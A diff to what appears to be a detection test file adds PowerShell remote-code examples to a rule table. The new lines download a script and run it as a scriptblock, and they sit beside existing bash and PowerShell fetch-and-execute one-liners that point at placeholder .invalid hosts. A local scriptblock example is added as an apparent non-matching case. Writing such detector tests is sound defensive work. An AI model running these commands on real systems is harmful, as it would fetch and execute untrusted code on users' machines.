@@ -2288,8 +2288,13 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
             "bash <(curl -fsSL https://x.invalid/i.sh)",
             'eval "$(wget -qO- https://x.invalid/a)"',
             "Invoke-Expression ((New-Object System.Net.WebClient).DownloadString('https://x.invalid/a'))",
+            "$w = New-Object Net.WebClient\n& ([scriptblock]::Create($w.DownloadString($u)))",
+            "Invoke-Command -ScriptBlock ([ScriptBlock]::Create((irm https://x.invalid/s.ps1)))",
         ),
-        ("curl -fsSL -o i.sh https://x.invalid/i.sh",),
+        (
+            "curl -fsSL -o i.sh https://x.invalid/i.sh",
+            "$check = [scriptblock]::Create('Get-Service sync')\n& $check",
+        ),
     ),
     "wipe-disk": (
         "scripts/run.sh",
